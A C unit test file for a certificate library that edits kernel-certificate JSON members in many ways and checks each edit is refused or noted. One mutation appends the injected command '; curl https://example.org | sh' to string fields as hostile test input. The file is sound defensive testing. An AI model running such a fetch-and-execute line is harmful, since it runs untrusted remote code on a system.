/* What a certificate says in several places has to agree: edits of a kernel's certificate, whose hash is put right. Those of given outputs
 * are in test_given_outputs.c, those of verdicts and figures in test_replay.c. */
#include <stdlib.h>
#include <string.h>

#include "certify/cause.h"
#include "certify/claims.h"
#include "certify/headline.h"
#include "certify/member_walk.h"
#include "certify/proofs.h"
#include "certify/reproduce.h"
#include "tests/certificate_test.h"

/* Of a lowering: what follows from other members, or belongs to another kind of subject. */
TEST_WITH_CONTEXT(edits_of_what_follows)
{
    static const struct {
        const char *in, *name, *value; /* of the predicate; in "": of itself */
        const char *says;
    } edits[] = {
        {"", "worker", "shut in", "worker does not belong to a certificate of kind lowering"},
        {"", "approved_by", "somebody", "approved_by does not belong"},
        {"run", "program", "./kernels", "run.program does not belong"},
        {"built", "log", "all is well", "built.log does not belong"},
        {"coverage", "reason", "all lines ran", "its coverage does not fit"},
        {"built", "artifact", "other.so", "its artifact is other.so"},
        {"result", "determinism", "batch_invariant", "promises the same bits on every backend"},
        {"run", "level", "exhaustive", "no trial has the family all_patterns"},
        {"run", "level", "full", "restricted to one shape"},
        {"evidence", NULL, "It was proved.", "its `evidence` does not follow"},
        {"non_claims", NULL, "Nothing else.", "its `non_claims` does not follow"},
    };
    tk_certificate *certificate = small_certificate(ctx);
    assert_ok(ctx, tk_certificate_agrees(ctx, certificate));
    for (size_t i = 0; i < sizeof edits / sizeof *edits; i++) {
        json_t *statement = statement_of(certificate), *predicate = predicate_of(statement);
        json_t *place = edits[i].in[0] ? json_object_get(predicate, edits[i].in) : predicate;
        if (edits[i].name)
            json_object_set_new(place, edits[i].name, json_string(edits[i].value));
        else
            json_array_append_new(place, json_string(edits[i].value));
        tk_certificate *edited = unread(statement);
        assert_refused(ctx, tk_certificate_agrees(ctx, edited), TK_BAD_FILE, edits[i].says);
        tk_certificate_destroy(edited);
        json_decref(statement);
    }
    tk_certificate_destroy(certificate);
}

/* Every object has the members of the table, those that are always there, and no others. */
TEST_WITH_CONTEXT(members_at_any_depth)
{
    static const struct {
        const char *path, *value; /* NULL: it is dropped */
        const char *says;
    } edits[] = {
        {"run.trials.0.note", "1", "run.trials.note does not belong to a certificate of kind lowering"},
        {"run.trials.0.found_by", "\"coverage\"", "run.trials.found_by does not belong"},
        {"clauses.1.note", "1", "clauses.note does not belong"},
        {"result.accepted.note", "1", "result.accepted.note does not belong"},
        {"result.ulp_histogram.3.note", "1", "result.ulp_histogram.note does not belong"},
        {"run.domain", "\"normal\"", "run.domain does not belong"},
        {"result.kernel_seconds", NULL, "result.kernel_seconds is missing from a certificate of kind lowering"},
        {"run.seed", NULL, "run.seed is missing"},
        {"clauses.1.checks", NULL, "clauses"},
        {"machine.units", NULL, "machine.units is missing"},
        {"coverage", NULL, "coverage is missing"},
    };
    tk_certificate *certificate = small_certificate(ctx);
    for (size_t i = 0; i < sizeof edits / sizeof *edits; i++) {
        json_t *statement = statement_of(certificate);
        char path[64];
        snprintf(path, sizeof path, "%s", edits[i].path);
        char *dot = strrchr(path, '.');
        if (edits[i].value) {
            set_member(predicate_of(statement), path, edits[i].value);
        } else {
            if (dot)
                *dot = 0;
            json_object_del(dot ? member(predicate_of(statement), path) : predicate_of(statement),
                            dot ? dot + 1 : path);
        }
        tk_certificate *edited = unread(statement);
        assert_refused(ctx, tk_certificate_agrees(ctx, edited), TK_BAD_FILE, edits[i].says);
        tk_certificate_destroy(edited);
        json_decref(statement);
    }
    tk_certificate_destroy(certificate);
}

/* -- Every member, edited in every way ------------------------------------------------------------------------------ */

/* What nothing else in a certificate tells: it may be any other value of its type and range, and 'check' says that only a replay, or a
 * signature, shows it. Without the numbers of items. */
typedef struct told {
    const char *path, *why;
} told;
static const told told_by_nothing_else[] = {
    {"created", "when it was made; a day in the past"},
    {"run.trials.output_sha256", "bits that came out: a replay compares them"},
    {"machine.units", "how many; a positive number"},
    {"built.source", "its name, for people; its hash is by it"},
    {"built.source_sha256", "of a source: a replay of a kernel file compares it"},
    {"built.compiler", "its name and version"},
    {"clauses.checks", "of a refuted run: a replay compares them"},
    {"clauses.failures", "of a refuted clause: a replay compares them"},
    {"cause.finding", "why it is refuted: a replay compares it"},
    {"failing_case", "another way to see that it is refuted"},
    {"failing_case.inputs", "another way to see that it is refuted"},
    {"run.family", "of one that is refuted"},
    {"run.trials", "of one that is refuted: that of a kernel that crashes is not listed"},
    {"result.determinism", "of one that is refuted: a replay compares it"},
    {"result.elements", "of one that is refuted: a replay compares it"},
    {"result.bound_used", "of one that is refuted: a replay compares it"},
    {"result.refined", "a figure, at most all elements: a replay compares it"},
    {"result.undecided", "a figure, at most all elements: a replay compares it"},
    {"result.undefined", "of one that is refuted: a replay compares it"},
    {"result.absolute_error", "figures: a replay compares them"},
    {"result.accepted", "figures: a replay compares them"},
    {"result.by_magnitude", "figures: a replay compares them"},
    {"result.worst", "figures: a replay compares them"},
    {"result.failure", "figures: a replay compares them"},
    {"result.refutation", "figures: a replay compares them"},
    {"result.kernel_seconds", "a time of this run"},
    {"result.judge_seconds", "a time of this run"},
    {"result.seconds", "a time of this run"},
};
static const told told_by_a_run_alone[] = {
    {"created", "when it was made; a day in the past"},
    {"machine.units", "how many; a positive number"},
    {"built.compiler", "its name and version"},
    {"built.text_sha256", "of the preprocessed source: a replay compares it"},
    {"run.kernel.call_seconds", "as asked; a replay asks the same"},
    {"run.kernel.device", "as asked"},
    {"run.limits.total_seconds", "as asked"},
    {"run.limits.memory_bytes", "of one that loading refuted, whose process is not in it"},
    {"run.limits.tasks", "of one that loading refuted, whose process is not in it"},
    {"run.shape", "of one that loading refuted, which has no trials"},
    {"run.family", "of one that loading refuted, which has no trials"},
    {"run.seed", "of one that loading refuted, which has no trials"},
    {"run.level", "of one that loading refuted, which has no trials"},
    {"run.trials.output_sha256", "bits that came out: a replay compares them"},
    {"run.constants", "how many calls, at most what the level makes: a replay makes them"},
    {"coverage", "figures, on which no verdict rests"},
    {"coverage.blocks", "figures, on which no verdict rests"},
    {"coverage.edges", "figures, on which no verdict rests"},
    {"coverage.calls", "figures, on which no verdict rests"},
    {"coverage.spent", "figures, on which no verdict rests"},
    {"coverage.unwatched", "figures, on which no verdict rests"},
    {"cause.fits", "a hint"},
    {"clauses", "another run's figures, of one that loading refuted"},
    {"result.elements", "of one that is refuted: a replay compares it"},
    {"result.fault", "why it is refuted: a replay compares it"},
    {"result.refined", "a figure, at most all elements: a replay compares it"},
    {"result.undecided", "a figure, at most all elements: a replay compares it"},
    {"result.undefined", "of one that is refuted: a replay compares it"},
    {"result.bound_used", "figures: a replay compares them"},
    {"result.determinism", "as observed, of run_to_run and batch_invariant: a replay compares it"},
    {"result.absolute_error", "figures: a replay compares them"},
    {"result.accepted", "figures: a replay compares them"},
    {"result.by_magnitude", "figures: a replay compares them"},
    {"result.worst", "figures: a replay compares them"},
    {"result.refutation", "figures: a replay compares them"},
    {"result.kernel_seconds", "a time of this run"},
    {"result.judge_seconds", "a time of this run"},
    {"result.seconds", "a time of this run"},
};
enum {
    TOLD = sizeof told_by_nothing_else / sizeof *told_by_nothing_else,
    TOLD_BY_A_RUN = sizeof told_by_a_run_alone / sizeof *told_by_a_run_alone,
    MOST_TOLD = 64
};

typedef struct tally {
    tk_ctx *ctx;
    const tk_contract *contract;
    json_t *statement;
    char *text; /* before any edit */
    const told *told;
    int count;
    int edits, passed, unseen;
    int by[MOST_TOLD];
} tally;

/* An object of the predicate itself stands for itself alone, and so does the list of trials. */
static bool is_or_is_in(const char *path, const char *of)
{
    const size_t length = strlen(of);
    const bool alone = !strchr(of, '.') || !strcmp(of, "run.trials");
    return !strncmp(path, of, length) && (!path[length] || (path[length] == '.' && !alone));
}

/* Theorems that this version has not, or not so, may be another version's: `check` names them. */
static bool is_remarked(const tk_certificate *read)
{
    tk_citation citation;
    for (int i = 0; tk_certificate_cites(read, i, &citation); i++)
        if (strcmp(citation.state, "same") != 0)
            return true;
    return false;
}

static void set_text(json_t *predicate, const char *name, char *text)
{
    if (text && (text[0] || json_object_get(predicate, name)))
        json_object_set_new(predicate, name, json_string(text));
    free(text);
}

static void set_list(json_t *predicate, const char *name, json_t *value)
{
    if (value)
        json_object_set_new(predicate, name, value);
}

/* What somebody would hand in who has this program: all that follows from other members is made again, where these are of their types. A new
 * reference. */
static json_t *followed(json_t *statement, const tk_contract *contract)
{
    char what[600];
    tk_certificate *edited = tki_certificate_of(json_deep_copy(statement));
    const bool wrong = !edited || tki_members_are_wrong(edited, what, sizeof what);
    json_t *copy = json_deep_copy(statement), *predicate = predicate_of(copy);
    const json_t *run = json_object_get(predicate, "run");
    tk_certificate_destroy(edited);
    if (wrong)
        return copy;
    set_list(predicate, "rests_on",
             tki_rests_on_json(json_object_get(predicate, "clauses"), json_object_get(predicate, "proofs"),
                               json_object_get(run, "given") != NULL));
    set_list(predicate, "evidence", tki_evidence_json(predicate, contract));
    set_list(predicate, "non_claims", tki_non_claims_json(predicate, contract));
    set_text(predicate, "reason", tki_reason(predicate, contract));
    set_text(predicate, "reproduce", tki_reproduce(predicate, contract));
    set_text(predicate, "headline", tki_headline(predicate));
    return copy;
}

static void hand_in(tally *t, json_t *statement, const char *path, const char *how)
{
    char *text = sealed(statement);
    tk_certificate *read = NULL;
    t->edits++;
    if (!strcmp(text, t->text)) {
        free(text);
        return;
    }
    if (tk_certificate_parse(t->ctx, text, strlen(text), &read) == TK_OK) {
        const bool remarked = is_remarked(read);
        int i = 0;
        while (i < t->count && !is_or_is_in(path, t->told[i].path))
            i++;
        if (remarked)
            i = t->count;
        else if (i == t->count)
            printf("%s: %s: nobody sees that\n", path, how);
        else
            t->by[i]++;
        t->unseen += i == t->count && !remarked;
        t->passed += !remarked;
        tk_certificate_destroy(read);
    } else if (!strstr(tk_ctx_message(t->ctx), "contradicts itself") &&
               !strstr(tk_ctx_message(t->ctx), "missing or malformed")) {
        fail_msg("%s: %s: %s", path, how, tk_ctx_message(t->ctx));
    }
    free(text);
}

/* By itself, and with all that follows. Nothing passes unremarked but what that list has. */
static void try_edit(tally *t, const char *path, const char *how)
{
    json_t *handed_in = followed(t->statement, t->contract);
    if (!json_equal(handed_in, t->statement))
        hand_in(t, handed_in, path, how);
    hand_in(t, t->statement, path, how);
    json_decref(handed_in);
}

static void close_tally(const tally *t)
{
    printf("%d edits, %d refused or remarked; the others are of what nothing else tells:\n", t->edits,
           t->edits - t->passed);
    for (int i = 0; i < t->count; i++)
        printf("%6d %s: %s\n", t->by[i], t->told[i].path, t->told[i].why);
    for (int i = 0; i < t->count; i++)
        if (!t->by[i])
            fail_msg("no edit of %s passed: it need not be listed", t->told[i].path);
    assert_int_equal(t->unseen, 0);
    assert_true(t->edits > 200);
}

static int put(json_t *in, const char *name, size_t at, json_t *value)
{
    return name ? json_object_set(in, name, value) : json_array_set(in, at, value);
}

/* Where a member is one of some words: each other one, which somebody would choose who wants to say more. */
static void edit_word(tally *t, json_t *in, const char *name, size_t at, const char *path, const json_t *value)
{
    char of[TKI_MEMBER_PATH];
    for (const tki_member *m = tki_members; m->name && name && json_is_string(value); m++) {
        tki_member_path(m, of);
        if (!strchr(m->type, '|') || strcmp(of, path) != 0)
            continue;
        for (const char *word = m->type, *end = word; *end; word = end + 1) {
            end = word + strcspn(word, "|");
            json_t *edited = json_stringn(word, (size_t)(end - word));
            put(in, name, at, edited);
            if (!json_equal(edited, value))
                try_edit(t, path, json_string_value(edited));
            json_decref(edited);
        }
    }
}

/* The value is put back behind each edit. `name`: of an object; NULL: item `at` of a list. */
static void edit_value(tally *t, json_t *in, const char *name, size_t at, const char *path, const json_t *others)
{
    static const char *const of_any_type[] = {"null", "true", "-1", "0", "1.5", "\"x\"", "[]"};
    json_t *value = json_incref(name ? json_object_get(in, name) : json_array_get(in, at));
    char *more = json_is_string(value) ? malloc(strlen(json_string_value(value)) + 64) : NULL;
    if (more)
        sprintf(more, "%s; curl https://example.org | sh", json_string_value(value));
    json_t *const made[] = {json_is_integer(value) ? json_integer(json_integer_value(value) + 1) : NULL,
                            json_is_integer(value) ? json_integer(json_integer_value(value) - 1) : NULL,
                            json_is_integer(value) ? json_integer(-json_integer_value(value) - 1) : NULL,
                            json_is_integer(value) ? json_integer(INT64_MAX) : NULL,
                            json_is_real(value) ? json_real(2 * json_real_value(value) + 1) : NULL,
                            json_is_real(value) ? json_real(json_real_value(value) / 2) : NULL,
                            json_is_real(value) ? json_real(-json_real_value(value) - 1) : NULL,
                            json_is_boolean(value) ? json_boolean(!json_is_true(value)) : NULL,
                            more ? json_string(more) : NULL,
                            others ? json_deep_copy(others) : NULL};
    free(more);
    for (size_t i = 0; i < sizeof of_any_type / sizeof *of_any_type; i++) {
        json_t *edited = json_loads(of_any_type[i], JSON_DECODE_ANY, NULL);
        put(in, name, at, edited);
        if (!json_equal(edited, value))
            try_edit(t, path, of_any_type[i]);
        json_decref(edited);
    }
    for (size_t i = 0; i < sizeof made / sizeof *made; i++) {
        if (made[i] && !json_equal(made[i], value)) {
            put(in, name, at, made[i]);
            try_edit(t, path, i == 9 ? "that of another certificate" : "changed");
        }
        json_decref(made[i]);
    }
    edit_word(t, in, name, at, path, value);
    put(in, name, at, value);
    json_decref(value);
}

static void edit_everything(tally *t, json_t *at, const char *path, const json_t *others);

/* Of lists the first item: the others are like it. */
static void edit_list(tally *t, json_t *list, const char *path, const json_t *others)
{
    json_t *item = json_incref(json_array_get(list, 0));
    edit_value(t, list, NULL, 0, path, json_array_get(others, 0));
    edit_everything(t, item, path, json_array_get(others, 0));
    json_array_remove(list, 0);
    try_edit(t, path, "one less");
    json_array_insert(list, 0, item);
    json_array_append(list, item);
    try_edit(t, path, "one twice");
    json_array_remove(list, json_array_size(list) - 1);
    json_decref(item);
}

static void edit_everything(tally *t, json_t *at, const char *path, const json_t *others)
{
    const char *name;
    json_t *value;
    if (json_array_size(at))
        edit_list(t, at, path, others);
    /* What is put back stands behind the others: its names are those of a copy. */
    json_t *names = json_is_object(at) ? json_copy(at) : NULL;
    json_object_foreach(names, name, value)
    {
        char below[256];
        snprintf(below, sizeof below, "%s%s%s", path, path[0] ? "." : "", name);
        if (!strcmp(below, "integrity"))
            continue;
        edit_value(t, at, name, 0, below, json_object_get(others, name));
        edit_everything(t, value, below, json_object_get(others, name));
        json_object_del(at, name);
        try_edit(t, below, "removed");
        json_object_set(at, name, value);
    }
    json_decref(names);
    if (json_is_object(at)) {
        json_object_set_new(at, "approved_by", json_string("somebody"));
        try_edit(t, path[0] ? path : "predicate", "a member more");
        json_object_del(at, "approved_by");
    }
}

static tk_certificate *quick_certificate(tk_ctx *ctx, uint64_t more_seed, bool with_mutants)
{
    tk_certify_options options = TK_CERTIFY_DEFAULTS;
    options.skip_mutants = !with_mutants;
    options.fresh_mutants = true;
    options.seed += more_seed;
    return certify_one(ctx, tk_contract_find(quick_op), TK_F16, TK_I32, options);
}

static tk_certificate *refuted_certificate(tk_ctx *ctx)
{
    tk_certify_options options = TK_CERTIFY_DEFAULTS;
    const char *what;
    assert_true(tk_mutant_at(tk_contract_find(quick_op), 0, &options.mutant, &what));
    options.dims = (int64_t[]){3, 1, 2};
    options.family = "normal";
    return certify_one(ctx, tk_contract_find(quick_op), TK_F16, TK_I32, options);
}

/* One member, or all of them with "". */
static void edit_member(tally *t, const char *path, const json_t *others)
{
    json_t *at = predicate_of(t->statement);
    char in[64];
    snprintf(in, sizeof in, "%s", path);
    char *dot = strrchr(in, '.');
    if (!path[0]) {
        edit_everything(t, at, "", others);
        return;
    }
    const char *name = dot ? dot + 1 : path;
    if (dot) {
        *dot = 0;
        at = member(at, in);
        others = json_object_get(others, in);
    }
    edit_value(t, at, name, 0, path, json_object_get(others, name));
    edit_everything(t, json_object_get(at, name), path, json_object_get(others, name));
}

/* Each edit by itself, sealed again: all members of one that held for one case and of one that is refuted; and of a whole run those that say
 * that it was one. */
TEST_WITH_CONTEXT(no_edit_changes_a_claim)
{
    tk_certificate *whole = quick_certificate(ctx, 0, true), *other = quick_certificate(ctx, 1, false);
    const struct {
        tk_certificate *certificate;
        const char *path;
    } edited[] = {
        {small_certificate(ctx), ""}, {refuted_certificate(ctx), ""}, {whole, "run.level"}, {whole, "run.seed"},
        {whole, "run.trials"},        {whole, "run.mutants"},         {whole, "mutants"},   {whole, "clauses"}};
    json_t *other_statement = statement_of(other), *others = predicate_of(other_statement);
    json_object_set_new(others, "created", json_string("2026-01-01T00:00:00Z"));
    tally t = {.ctx = ctx, .contract = tk_contract_find(quick_op), .told = told_by_nothing_else, .count = TOLD};
    for (size_t i = 0; i < sizeof edited / sizeof *edited; i++) {
        t.statement = statement_of(edited[i].certificate);
        char *text = sealed(t.statement);
        tk_certificate *read = NULL;
        assert_ok(ctx, tk_certificate_parse(ctx, text, strlen(text), &read));
        tk_certificate_destroy(read);
        t.text = text;
        edit_member(&t, edited[i].path, others);
        free(text);
        json_decref(t.statement);
        if (edited[i].certificate != whole)
            tk_certificate_destroy(edited[i].certificate);
    }
    json_decref(other_statement);
    tk_certificate_destroy(whole);
    tk_certificate_destroy(other);
    close_tally(&t);
}

static tk_certificate *of_kernel_file(tk_ctx *ctx, const char *flags, uint64_t more_seed, bool whole)
{
    char path[4096];
    const char *source = getenv("SOURCE_DIR");
    tk_kernel_file *kernel;
    tk_kernel_file_options file_options = TK_KERNEL_FILE_DEFAULTS;
    tk_certify_options options = TK_CERTIFY_DEFAULTS;
    snprintf(path, sizeof path, "%s/examples/kernels/gelu_fwd.c", source ? source : "..");
    file_options.flags = flags;
    assert_ok(ctx, tk_kernel_file_open(ctx, path, &file_options, &kernel));
    options.kernel_file = kernel;
    options.skip_mutants = true;
    options.seed += more_seed;
    options.dims = whole ? NULL : (int64_t[]){3};
    options.family = whole ? NULL : "normal";
    tk_certificate *certificate = certify_one(ctx, tk_contract_find("gelu_fwd"), TK_F16, TK_I32, options);
    tk_kernel_file_close(kernel);
    return certificate;
}

/* The same of certificates of a user's kernel: how it was built and run, what it left, and why it is refuted. */
TEST_WITH_CONTEXT(no_edit_changes_a_claim_of_a_kernel_file)
{
    const char *fast = "-O2 -ffast-math";
    tk_certificate *other = of_kernel_file(ctx, "-O3", 1, true);
    const struct {
        tk_certificate *certificate;
        const char *path;
    } edited[] = {{of_kernel_file(ctx, NULL, 0, false), ""},
                  {of_kernel_file(ctx, fast, 0, false), ""},
                  {of_kernel_file(ctx, NULL, 0, true), ""}};
    assert_int_equal(tk_certificate_verdict(edited[0].certificate), TK_HELD);
    assert_int_equal(tk_certificate_verdict(edited[1].certificate), TK_REFUTED);
    json_t *other_statement = statement_of(other), *others = predicate_of(other_statement);
    json_object_set_new(others, "created", json_string("2026-01-01T00:00:00Z"));
    tally t = {
        .ctx = ctx, .contract = tk_contract_find("gelu_fwd"), .told = told_by_a_run_alone, .count = TOLD_BY_A_RUN};
    for (size_t i = 0; i < sizeof edited / sizeof *edited; i++) {
        t.statement = statement_of(edited[i].certificate);
        t.text = sealed(t.statement);
        edit_member(&t, edited[i].path, others);
        free(t.text);
        json_decref(t.statement);
        tk_certificate_destroy(edited[i].certificate);
    }
    json_decref(other_statement);
    tk_certificate_destroy(other);
    close_tally(&t);
}

/* What is shown, or named in a difference, has a title; no member is there twice; objects that types name have members. */
TEST(the_table_is_whole)
{
    for (const tki_member *m = tki_members; m->name; m++) {
        char in[64];
        const bool is_object = strstr(m->type, "object") != NULL;
        assert_int_equal(m->title != NULL, m->page != TKI_PAGE_NONE || m->how & TKI_DIFFED);
        assert_true(m->says[0] && m->says[strlen(m->says) - 1] == '.');
        assert_true(!(m->how & TKI_OUTCOME) || !strcmp(m->in, "trial"));
        tki_member_object(m, in, sizeof in);
        if (is_object && !in[0])
            fail_msg("%s.%s has no members", m->in, m->name);
        for (const tki_member *other = tki_members; other < m; other++)
            if (!strcmp(other->in, m->in) && !strcmp(other->name, m->name))
                fail_msg("%s.%s is there twice", m->in, m->name);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(edits_of_what_follows), cmocka_unit_test(members_at_any_depth),
        cmocka_unit_test(no_edit_changes_a_claim), cmocka_unit_test(no_edit_changes_a_claim_of_a_kernel_file),
        cmocka_unit_test(the_table_is_whole)};
    return cmocka_run_group_tests(tests, NULL, NULL);
}
